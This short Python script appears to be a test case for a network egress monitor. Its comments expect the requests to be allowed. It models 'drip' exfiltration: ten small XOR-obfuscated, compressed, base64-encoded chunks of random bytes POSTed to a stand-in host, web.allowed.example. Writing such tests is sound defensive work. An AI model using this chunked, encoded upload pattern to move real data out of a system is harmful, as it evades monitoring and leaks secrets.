# A little at a time, encoded, over many requests.
#: request allowed POST web.allowed.example/drip-$ID-0
#: request allowed POST web.allowed.example/drip-$ID-9
import base64, gzip, os, urllib.request
for i in range(10):
    data = base64.b64encode(gzip.compress(bytes(b ^ 0x5a for b in os.urandom(100))))
    urllib.request.urlopen(urllib.request.Request(f'http://web.allowed.example:{os.environ["PORT_HTTP"]}/drip-{os.environ["ID"]}-{i}', data)).read()
